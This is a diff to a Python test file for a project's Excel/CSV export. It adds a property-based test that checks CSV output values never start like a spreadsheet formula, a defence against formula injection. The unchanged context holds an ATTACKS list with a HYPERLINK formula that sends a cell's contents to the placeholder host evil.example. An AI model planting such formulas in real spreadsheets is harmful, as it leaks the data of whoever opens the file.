@@ -13,7 +13,7 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from python_calamine import CalamineWorkbook
 
-from tochuc.core.excel import FORMULA_START, Formula, cells, put, xlsx_write
+from tochuc.core.excel import FORMULA_START, Formula, cells, csv_text, put, xlsx_write
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A2,"Bấm")',
@@ -125,3 +125,12 @@ def formulas_in(data: bytes) -> list[str]:
         for c in row
         if c.data_type == "f"
     ]
+
+
+@given(st.text(max_size=40))
+def test_a_csv_value_never_starts_like_a_formula(text):
+    # the replay's review list (tochuc orgs replay-2025 --review) is a CSV file
+    written = csv_text(text)
+    assert written[:1] not in FORMULA_START
+    assert written in (text, "'" + text)
+    assert csv_text(42) == 42
